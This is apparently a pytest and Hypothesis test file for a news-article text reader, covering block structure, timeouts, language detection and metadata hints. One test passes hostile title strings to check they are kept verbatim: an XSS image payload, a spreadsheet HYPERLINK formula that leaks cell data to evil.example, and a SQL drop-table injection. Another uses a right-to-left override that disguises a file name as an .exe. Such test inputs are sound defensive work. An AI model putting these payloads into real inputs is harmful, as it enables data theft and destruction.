"""What holds for every article: blocks are its text, the same item gives the same article, nothing hangs or raises."""

import time
from dataclasses import replace
from datetime import date, timedelta
from itertools import pairwise

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from tests.transforms.text.writing import RETRIEVED_AT, article, item, read, reader, splitter
from transforms.records import Article, Hints, Rejection

PROSE = "The mill sold 40 looms to a buyer in Lisbon last week, its owner said, the largest order of the year. "
CHINESE = "这家纺织厂昨天向里斯本卖出了四十台织机，是今年最大的订单。"
KINDS = {"paragraph", "heading", "list_item", "quote", "table_cell", "teaser"}
DIRT = st.sampled_from(
    ["\n", "\n\n", " ", "- ", "Advertisements\n", "[3]", "The", "this", "aB", ".", "“", "(", "|", "#", "2026-01-02", "By Ada Moor\n", "\t",
     "中文。", "1. ", "é", "\u202e", "<p>", "&amp;", "---\n", "title: x\n", "U.S. ", PROSE]
)  # fmt: skip


def check(found: Article) -> None:
    assert all(block.start < block.end and block.kind in KINDS for block in found.blocks)
    assert all(before.end <= after.start for before, after in pairwise(found.blocks))
    between = [found.text[before.end : after.start] for before, after in pairwise(found.blocks)]
    assert all(gap in ("\n\n", "\n", "\t", " ") for gap in between)
    assert (found.blocks[0].start, found.blocks[-1].end) == (0, len(found.text))
    for sentence in splitter().sentences(found):
        words = found.text[sentence.start : sentence.end]
        assert words
        assert words == words.strip()


@given(st.lists(DIRT, min_size=1, max_size=40).map("".join), st.sampled_from(["text/plain", "text/markdown"]))
@settings(max_examples=150, deadline=None)
def test_blocks_cover_the_text_and_sentences_lie_in_them(text, media_type):
    found = read(text + "\n\n" + PROSE, media_type)
    if isinstance(found, Article):
        check(found)


@given(st.binary(max_size=400), st.sampled_from(["text/plain", "text/markdown", "text/html"]))
@settings(max_examples=150, deadline=None)
def test_any_bytes_are_an_article_or_one_reason(content, media_type):
    found = read(content, media_type)
    assert isinstance(found, Rejection) or found.text


@given(st.lists(DIRT, min_size=1, max_size=30).map("".join))
@settings(max_examples=60, deadline=None)
def test_the_same_item_gives_the_same_article(text):
    assert read(text + PROSE) == read(text + PROSE)


def test_a_later_retrieval_changes_only_the_time():
    earlier = item(f"Published: March 3, 2025\n\n{PROSE}")
    later = replace(earlier, retrieved_at=RETRIEVED_AT + timedelta(days=300))
    assert reader().article(later) == replace(reader().article(earlier), retrieved_at=later.retrieved_at)


@pytest.mark.parametrize(
    "text",
    [
        "x" * 3_000_000,
        "word " * 400_000,
        "[1]" * 100_000,
        "[" * 200_000,
        "- " * 200_000,
        "a\n" * 50_000,
        "By Ada " * 30_000,
        "aB" * 200_000,
        "中" * 500_000,
        "(" * 200_000,
        "12/" * 100_000,
        "***" * 50_000,
        "#" * 100_000,
        "|" * 200_000,
        "---\n" * 50_000,
        "&#" * 100_000,
        "A - B" * 60_000,
        "![" * 100_000,
    ],
)
@pytest.mark.parametrize("media_type", ["text/plain", "text/markdown"])
def test_no_text_hangs_the_reader(text, media_type):
    before = time.perf_counter()
    read(f"{PROSE}\n\n{text}\n\n{PROSE}", media_type)
    assert time.perf_counter() - before < 10


@pytest.mark.parametrize(
    ("text", "declared", "language"),
    [
        (PROSE, None, "en"),
        (CHINESE, None, "zh"),
        (CHINESE + PROSE, None, "zh"),
        (PROSE + PROSE + CHINESE[:8], None, "en"),
        (
            "Die Weberei hat in der vergangenen Woche vierzig Webstühle nach Lissabon verkauft, sagte der Besitzer.",
            None,
            "de",
        ),
        ("La filature a vendu quarante métiers à tisser à un acheteur de Lisbonne la semaine dernière.", None, "fr"),
        ("紡績工場は先週、リスボンの買い手に織機を四十台販売したと発表しました。", None, "ja"),
        (
            "방직공장은 지난주 리스본의 구매자에게 직기 마흔 대를 판매했다고 밝혔습니다 그리고 더 팔 것입니다.",
            None,
            "ko",
        ),
        (CHINESE, "en", "zh"),
        (PROSE, "fr", "en"),
    ],
)
def test_the_language_is_that_of_most_of_the_text(text, declared, language):
    assert article(text, hints=Hints(language=declared)).language == language


def test_each_paragraph_has_its_language():
    found = article(f"{PROSE}\n\n{CHINESE}\n\nSold.\n\n{PROSE}{PROSE}\n\n{PROSE}")
    assert [block.language for block in found.blocks] == ["en", "zh", "en", "en", "en"]


@pytest.mark.parametrize(
    ("text", "words"),
    [
        (PROSE, 21),
        ("The mill's owner sold 3.5 million looms at 1,200 a piece.", 11),
        (CHINESE, 27),
        (f"据Reuters报道，{CHINESE}", 31),
    ],
)
def test_words_are_counted_and_characters_of_chinese(text, words):
    assert article(text).word_count == words


def test_hints_stand_where_the_text_says_nothing():
    hints = Hints(
        url="https://quay.example/a", title="Mill", author="Ada Moor", publisher="Quay Weekly",
        published_on=date(2026, 5, 1), published_from="sitemap", licence="CC0-1.0",
    )  # fmt: skip
    found = article(PROSE, hints=hints)
    assert (found.url, found.title, found.author, found.publisher) == (hints.url, "Mill", "Ada Moor", "Quay Weekly")
    assert (found.published_on, found.published_from, found.source.licence) == (date(2026, 5, 1), "sitemap", "CC0-1.0")


@pytest.mark.parametrize(
    "title",
    [
        "x" * 10_000,
        "<img src=x onerror=alert(1)>",
        '=HYPERLINK("http://evil.example/?"&A1,"open")',
        "'; drop table articles; --",
    ],
)
def test_a_title_is_kept_as_it_is(title):
    assert article(PROSE, hints=Hints(title=title)).title == title


def test_a_title_loses_what_turns_it_round_and_its_line_ends():
    assert article(PROSE, hints=Hints(title="\u202egnp.exe\u202c and\n\u200bmore")).title == "gnp.exe and more"


def test_names_that_are_too_long_to_be_one_are_left_out():
    found = article(PROSE, hints=Hints(title="Mill", author="a" * 201, publisher="p" * 301, licence="l" * 301))
    assert (found.title, found.author, found.publisher, found.source.licence) == ("Mill", None, None, None)
